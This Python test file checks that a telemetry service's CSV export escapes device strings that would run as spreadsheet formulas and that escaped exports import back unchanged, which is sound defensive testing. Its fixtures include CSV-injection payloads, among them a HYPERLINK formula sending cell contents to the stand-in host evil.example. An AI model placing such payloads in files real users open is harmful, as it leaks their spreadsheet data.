"""CSV exports cannot carry spreadsheet formulas from device strings, and still import as
exactly what was stored (issue 14, finding 10)."""

from __future__ import annotations

import csv
import io

import httpx

from fleetcore.auth.principal import Role
from fleetcore.db import Database
from fleetcore_protocol.telemetry import Kind, Reading
from tests.support.tenants import Tenant
from tests.test_telemetry_import import upload
from tests.test_telemetry_queries import API, BASE, DAY, make_device, num, walk, write

RISKY = ("=", "+", "-", "@", "\t", "\r")
# Device strings as a spreadsheet would run them, one that already starts with the escape,
# and harmless ones.
TEXTS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "'quoted",
    "'=already escaped",
    "plain",
    "a=b",
]
READINGS = [Reading("note", BASE + i, Kind.TEXT, text) for i, text in enumerate(TEXTS)] + [
    num("-level", BASE, -5.2),  # a key a spreadsheet would run, a negative number
    Reading("-label", BASE, Kind.TEXT, "ok"),
]


async def export_csv(client: httpx.AsyncClient, tenant: Tenant, device_id: str) -> bytes:
    response = await client.get(
        f"{API}/devices/{device_id}/telemetry/export",
        headers=tenant.headers(Role.VIEWER),
        params={"start": BASE, "end": BASE + DAY},
    )
    assert response.status_code == 200, response.text
    return response.content


async def test_exported_cells_never_start_a_formula(
    live_client: httpx.AsyncClient, live_tenant: Tenant, live_database: Database
) -> None:
    device_id = await make_device(live_client, live_tenant)
    await write(live_database, live_tenant, device_id, READINGS)
    content = await export_csv(live_client, live_tenant, device_id)
    rows = list(csv.reader(io.StringIO(content.decode(), newline="")))[1:]
    assert len(rows) == len(READINGS)
    for _, _, key, value, kind in rows:
        assert not key.startswith(RISKY), key
        if kind == "string":
            assert not value.startswith(RISKY), value
    notes = {int(ts_ms) - BASE: value for _, ts_ms, key, value, _ in rows if key == "note"}
    for index, text in enumerate(TEXTS):
        escaped = text.startswith((*RISKY, "'"))
        assert notes[index] == ("'" + text if escaped else text)
    [level] = [row for row in rows if row[2] == "'-level"]
    assert level[3:] == ["-5.2", "number"]  # numbers stay numbers


async def test_an_escaped_export_imports_as_what_was_stored(
    live_client: httpx.AsyncClient, live_tenant: Tenant, live_database: Database
) -> None:
    source = await make_device(live_client, live_tenant)
    target = await make_device(live_client, live_tenant)
    await write(live_database, live_tenant, source, READINGS)
    answer = await upload(
        live_client, live_tenant, target, await export_csv(live_client, live_tenant, source)
    )
    assert answer.json()["stored"] == len(READINGS), answer.text
    window = {"start": BASE, "end": BASE + DAY}
    stored = await walk(live_client, live_tenant, target, **window)
    assert stored == await walk(live_client, live_tenant, source, **window)
    assert sorted(value for _, key, value in stored if key == "note") == sorted(TEXTS)
